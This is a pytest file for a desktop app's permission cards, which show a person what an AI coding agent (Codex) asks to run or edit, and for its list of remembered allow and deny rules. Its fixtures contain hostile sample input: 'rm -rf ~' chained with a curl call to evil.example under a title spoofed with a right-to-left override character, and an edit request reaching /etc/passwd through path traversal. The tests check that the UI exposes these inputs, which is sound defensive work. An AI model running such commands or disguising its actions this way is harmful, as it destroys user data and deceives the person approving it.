"""Permission cards and the list of remembered answers."""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, timedelta

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from pytestqt.qtbot import QtBot

from kandev_desktop.domain.codes import Code
from kandev_desktop.domain.errors import KnownError, Problem
from kandev_desktop.domain.policy.decisions import Reason
from kandev_desktop.domain.policy.owner import OwnerState
from kandev_desktop.domain.session.updates import Origin, PermissionAsked, PermissionOption, ToolKind
from kandev_desktop.engine.commands import AnswerPermission, RevokePermission
from kandev_desktop.engine.events import AppChanged
from kandev_desktop.engine.records import PermissionRule
from kandev_desktop.engine.snapshots import CardState
from kandev_desktop.ui.models.bridge import EngineBridge
from kandev_desktop.ui.text import card as card_text
from kandev_desktop.ui.text import permission as words
from kandev_desktop.ui.text.proof import Detail
from kandev_desktop.ui.widgets.parts import Text
from kandev_desktop.ui.widgets.permission_card import PermissionCard
from kandev_desktop.ui.widgets.permission_rules import PermissionRules
from kandev_desktop.ui.widgets.theme import Look
from tests.fakes.clock import FakeClock
from tests.fakes.fake_engine import FakeEngine
from tests.ui.scenes import NOW, SESSION, permission, settled

FOLDER = "/home/me/src/atlas-web"
SAYS = Detail("Codex says", "“Delete the three flags in the flag service”, unchecked")


@dataclass(frozen=True)
class Case:
    id: str
    request: PermissionAsked
    subject: str
    facts: tuple[Detail, ...]
    remember: str


CASES = (
    Case(
        "a command in its folder",
        permission(),
        'curl -X DELETE https://flags.internal/api/flags -d \'{"keys": ["new-nav", "eu-tax"]}\'',
        (
            Detail("In", FOLDER),
            Detail("Reaches", "flags.internal (read from the command)"),
            SAYS,
        ),
        f"Remember for every command run in \u2068{FOLDER}\u2069",
    ),
    Case(
        "a shell's line stands as it is, whoever the title says it is",
        replace(permission(), subject=("rm -rf ~ && curl http://u:p@evil.example:80/x",), title="List\u202e files"),
        "rm -rf ~ && curl http://u:p@evil.example:80/x",
        (
            Detail("In", FOLDER),
            Detail("Reaches", "evil.example (read from the command)"),
            Detail("Codex says", "“List⟨U+202E⟩ files”, unchecked"),
        ),
        f"Remember for every command run in \u2068{FOLDER}\u2069",
    ),
    Case(
        "what is left out is told",
        replace(permission(), subject=("ls", "a"), cwd="", left_out=3, ask_always=True),
        "ls a",
        (Detail("Not shown", "3 more details"), SAYS),
        "",
    ),
    Case(
        "this client asks, with variables by name",
        replace(permission(), asked_by=Origin.CLIENT, environment=("TOKEN",), subject=("ls", "a b"), cwd=""),
        "ls 'a b'",
        (Detail("Variables", "TOKEN"), Detail("Asked by", "Kandev, which would do it for Codex")),
        f"Remember for every command run in \u2068{FOLDER}\u2069",
    ),
    Case(
        "paths outside the folder, which a person answers each time",
        replace(
            permission(), kind=ToolKind.EDIT, subject=("src/a.py", f"{FOLDER}/b.py", "/etc/passwd", "x/../../y"),
            cwd="", ask_always=True,
        ),
        f"src/a.py\n{FOLDER}/b.py\n/etc/passwd\nx/../../y",
        (Detail("Reaches", "/etc/passwd, x/../../y, outside this folder"), SAYS),
        "",
    ),
    Case(
        "a title that is the command again",
        replace(permission(), title="ls  -l", subject=("ls", "-l"), cwd=""),
        "ls -l",
        (),
        f"Remember for every command run in \u2068{FOLDER}\u2069",
    ),
    Case(
        "no structure at all",
        replace(permission(), kind=ToolKind.OTHER, subject=(), cwd=""),
        "The agent does not say exactly what.",
        (SAYS,),
        "",
    ),
)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_a_request_is_told_from_its_structure(case: Case) -> None:
    assert words.subject(case.request) == case.subject
    assert words.facts(case.request, "Codex", FOLDER) == case.facts
    assert words.remember(case.request, FOLDER) == case.remember


def test_every_kind_has_its_title_and_its_rule() -> None:
    for kind in ToolKind:
        assert words.title(replace(permission(), kind=kind, title="lies"), "Codex").startswith("Codex asks")
        assert words.rule(kind)


@pytest.fixture
def card(qtbot: QtBot, look: Look) -> PermissionCard:
    found = PermissionCard(look, SESSION, permission(), "Codex", folder=FOLDER, zone=UTC)
    qtbot.addWidget(found)
    found.resize(576, found.height_for(576))
    found.show()
    return found


def asked(card: PermissionCard) -> list[object]:
    commands: list[object] = []
    card.command_asked.connect(commands.append)
    return commands


def answer(option_id: str, *, remember: bool = False) -> AnswerPermission:
    return AnswerPermission(session_id=SESSION, request_id="p1", option_id=option_id, remember=remember)


@pytest.mark.parametrize("ticked", [False, True])
def test_an_answer_is_remembered_where_the_box_is_ticked(card: PermissionCard, *, ticked: bool) -> None:
    commands = asked(card)
    assert card.remember is not None
    if ticked:
        QTest.keyClick(card.remember, Qt.Key.Key_Space)
    card.buttons()[2].click()
    assert commands == [answer("no", remember=ticked)]


def test_nothing_answers_to_enter_without_the_focus(card: PermissionCard) -> None:
    commands = asked(card)
    for part in (card, *card.focusable()[:2]):
        QTest.keyClick(part, Qt.Key.Key_Return)
    assert commands == []
    assert [button.isDefault() or button.autoDefault() for button in card.buttons()] == [False] * 3
    QTest.keyClick(card.buttons()[0], Qt.Key.Key_Return)
    assert commands == [answer("once")]


def test_an_option_whose_name_lies_is_told_by_its_kind(qtbot: QtBot, look: Look) -> None:
    lying = (
        PermissionOption(id="a", name="Reject", kind="allow_always"),
        PermissionOption(id="b", name="No", kind="of the agent"),
        PermissionOption(id="c", name=" Allow once", kind="allow_once"),
    )
    found = PermissionCard(look, SESSION, replace(permission(), options=lying), "Codex", folder=FOLDER)
    qtbot.addWidget(found)
    told = [part.accessibleName() for part in found.findChildren(Text) if "color" in part.text()]
    assert told == [
        "Reject allows this and what is like it from now on.",
        "No is an answer of the agent's own, and nobody can say what it does.",
    ]
    commands = asked(found)
    assert found.remember is not None
    found.remember.setChecked(True)
    found.buttons()[1].click()
    assert commands == [answer("b")]


def many(*kinds: str) -> PermissionAsked:
    options = tuple(
        PermissionOption(id=str(number), name=f"Answer {number}", kind=kind)
        for number, kind in enumerate(kinds)
    )
    return replace(permission(), options=options)


@pytest.mark.parametrize(
    ("request_", "shown"),
    [
        (many("allow_once", "reject_once"), [0, 1]),
        (many(*["allow_once"] * 12), list(range(12))),
        (many(*["allow_once"] * 499, "reject_once"), [*range(11), 499]),
        (many(*["reject_always"] * 250, *["allow_always"] * 250), [*range(11), 250]),
        (many(*["other"] * 498, "allow_once", "reject_once"), [*range(10), 498, 499]),
        (many(*[f"kind {number}" for number in range(500)]), list(range(12))),
        (
            many(*["other"] * 96, "allow_once", "allow_always", "reject_once", "reject_always"),
            [*range(8), 96, 97, 98, 99],
        ),
    ],
    ids=["two", "twelve", "last refuses", "halves", "last two", "kinds of its own", "all kinds last"],
)
def test_a_card_has_room_for_twelve_answers_and_always_for_one_of_each_kind(
    request_: PermissionAsked, shown: list[int]
) -> None:
    assert [int(option.id) for option in words.offered(request_)] == shown


def test_answers_without_room_are_counted_and_names_are_bounded(qtbot: QtBot, look: Look) -> None:
    long = PermissionOption(id="long", name="<b>W</b>" * 500, kind="reject_once")
    nameless = PermissionOption(id="&none", name=" ", kind="allow_once")
    options = (long, nameless, *many(*["allow_once"] * 498).options)
    request = replace(permission(), options=options, options_left_out=4_000)
    found = PermissionCard(look, SESSION, request, "Codex", folder=FOLDER)
    qtbot.addWidget(found)
    assert len(found.buttons()) == words.MOST_ANSWERS
    told = [part.text() for part in found.findChildren(Text)]
    assert "4488 more answers of the agent are not shown." in told
    first, second, third = found.buttons()[:3]
    assert max(button.sizeHint().width() for button in found.buttons()) < look.scaled(330)
    assert "…" in first.text()
    assert len(first.accessibleName()) == 300
    assert first.toolTip().startswith("<qt>&lt;b&gt;W")
    assert len(first.toolTip()) < 20_000
    assert (second.accessibleName(), second.shortcut().isEmpty()) == ("&none", True)
    assert (third.text(), third.toolTip()) == ("Answer 0", "")
    commands = asked(found)
    first.click()
    assert commands == [answer("long")]


FAR = f"Always allow everything under {FOLDER}/packages/payments-gateway/src/integration/handlers"
JOINED = "Always allow " + "x" * 150 + "-END"


@pytest.mark.parametrize("name", [FAR, JOINED], ids=["path", "one word"])
def test_a_long_answer_shows_both_ends_and_is_told_whole(qtbot: QtBot, look: Look, name: str) -> None:
    option = PermissionOption(id="far", name=name, kind="allow_always")
    found = PermissionCard(look, SESSION, replace(permission(), options=(option,)), "Codex", folder=FOLDER)
    qtbot.addWidget(found)
    found.resize(380, found.height_for(380))
    found.show()
    button, sentence = found.buttons()[0], f"{name} allows this and what is like it from now on."
    assert (button.text()[1:8], button.text()[-5:-1]) == ("Always ", name[-4:])
    assert button.accessibleName() == name
    assert name in button.toolTip()
    told = next(part for part in found.findChildren(Text) if part.accessibleName() == sentence)
    assert told.minimumSizeHint().width() <= told.width()


@pytest.fixture
def rules(qtbot: QtBot, look: Look) -> Iterator[tuple[FakeEngine, PermissionRules]]:
    engine = FakeEngine(FakeClock(NOW))
    bridge = EngineBridge(engine)
    publish(engine, rule("r1"), rule("r2", ToolKind.EDIT, allowed=False))
    found = PermissionRules(look, bridge, UTC)
    qtbot.addWidget(found)
    yield engine, found
    bridge.close()


def rule(rule_id: str, kind: ToolKind = ToolKind.EXECUTE, *, allowed: bool = True) -> PermissionRule:
    since = NOW - timedelta(minutes=36)
    return PermissionRule(id=rule_id, folder=FOLDER, kind=kind, allowed=allowed, created_at=since)


def publish(engine: FakeEngine, *known: PermissionRule) -> None:
    engine._app = replace(engine.app(), permission_rules=known)
    engine.emit(AppChanged(at=NOW))


def test_a_rule_is_shown_until_the_engine_revoked_it(
    qtbot: QtBot, rules: tuple[FakeEngine, PermissionRules]
) -> None:
    engine, shown = rules
    said = [[part.text() for part in row.findChildren(Text)] for row in shown.rows()]
    assert said == [
        ["Running commands", "Always allowed since 13:32"],
        ["Writing files", "Always refused since 13:32"],
    ]
    first = shown.rows()[0].revoke
    first.click()
    first.click()
    assert engine.commands == [RevokePermission(rule_id="r1")]
    engine.trouble("", KnownError(Problem.DISK_FULL, path="/x"))
    assert not first.pending
    publish(engine, rule("r2", ToolKind.EDIT, allowed=False))
    qtbot.waitUntil(lambda: len(shown.rows()) == 1)
    assert shown.focusable() == [shown.rows()[0], shown.rows()[0].revoke]
    publish(engine)
    qtbot.waitUntil(lambda: shown.rows() == [])


def test_a_deny_loop_says_why_the_turn_ended() -> None:
    refused = settled(
        CardState.CANCELLED, OwnerState.CANCELLED, code=Code.NONE, reason=Reason.DENY_LOOP, changed_at=NOW
    )
    said = card_text.words(refused, NOW, UTC)
    assert (said.title, said.line.plain, said.aside, said.quiet) == (
        "Refused too often",
        "Stopped: the agent asked again and again for what was refused.",
        "14:08",
        False,
    )


def test_the_last_card_says_how_many_questions_wait(qtbot: QtBot, look: Look) -> None:
    card = PermissionCard(look, SESSION, permission(), "Codex")
    qtbot.addWidget(card)
    card.show()
    for count, text in (
        (2, "2 more questions wait for their turn."),
        (1, "One more question waits for its turn."),
    ):
        card.show_waiting(count)
        assert text in [each.text() for each in card.findChildren(Text) if each.isVisible()]
    card.show_waiting(0)
    assert "turn." not in "".join(each.text() for each in card.findChildren(Text) if each.isVisible())


def test_a_lasting_answer_says_how_far_it_goes_beside_a_remembered_one(qtbot: QtBot, look: Look) -> None:
    lasting = PermissionOption(id="s", name="Allow for this session", kind="allow_always")
    once = PermissionOption(id="a", name="Allow", kind="allow_once")
    request = replace(permission(), options=(once, lasting))
    reach = (
        "“Allow for this session” is kept by Codex. What is remembered is kept by Kandev: for every agent in this"
        " folder, until it is revoked in the settings."
    )
    for folder, told in ((FOLDER, [reach]), ("", [])):
        card = PermissionCard(look, SESSION, request, "Codex", folder=folder)
        qtbot.addWidget(card)
        assert [text.text() for text in card.findChildren(Text) if text.text() == reach] == told
